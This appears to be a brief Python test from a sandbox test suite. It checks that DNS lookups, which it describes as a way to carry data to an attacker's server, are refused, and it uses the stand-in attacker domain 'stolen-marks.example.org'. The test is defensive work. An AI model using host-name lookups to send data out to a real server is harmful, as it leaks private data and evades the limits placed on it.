# Asks for names of hosts, which carries a text to a server of the attacker's choice.
# expect: all right
import socket


def attack():
    refused(socket.getaddrinfo, "stolen-marks.example.org", 80)
    refused(socket.gethostbyname, "stolen-marks.example.org")
    refused(socket.gethostbyaddr, "127.0.0.1")
